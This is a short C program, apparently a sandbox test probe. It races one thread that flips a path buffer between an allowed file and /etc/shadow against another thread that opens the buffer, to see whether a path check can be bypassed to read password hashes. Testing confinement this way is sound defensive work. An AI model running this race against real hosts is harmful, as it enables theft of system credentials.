/* Escape attempt: one thread keeps rewriting a path buffer between an allowed file and
 * /etc/shadow while another keeps opening whatever the buffer says. A host that checked the
 * path and then let the kernel re-read it would eventually open /etc/shadow. Prints how many
 * opens succeeded and whether any of them read shadow's content; exits 0 either way. */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <unistd.h>

static char path[64];
static volatile int stop;
static const char *allowed;

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        strcpy(path, allowed);
        strcpy(path, "/etc/shadow");
    }
    return NULL;
}

int main(int argc, char **argv) {
    allowed = argc > 1 ? argv[1] : "/usr/share/common-licenses/GPL-3";
    int rounds = argc > 2 ? atoi(argv[2]) : 3000;
    strcpy(path, allowed);
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    int opened = 0, leaked = 0;
    for (int i = 0; i < rounds; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        opened++;
        char buf[5] = {0};
        if (read(fd, buf, 5) == 5 && memcmp(buf, "root:", 5) == 0) leaked++;
        close(fd);
    }
    stop = 1;
    pthread_join(t, NULL);
    printf("opened %d leaked %d\n", opened, leaked);
    return 0;
}
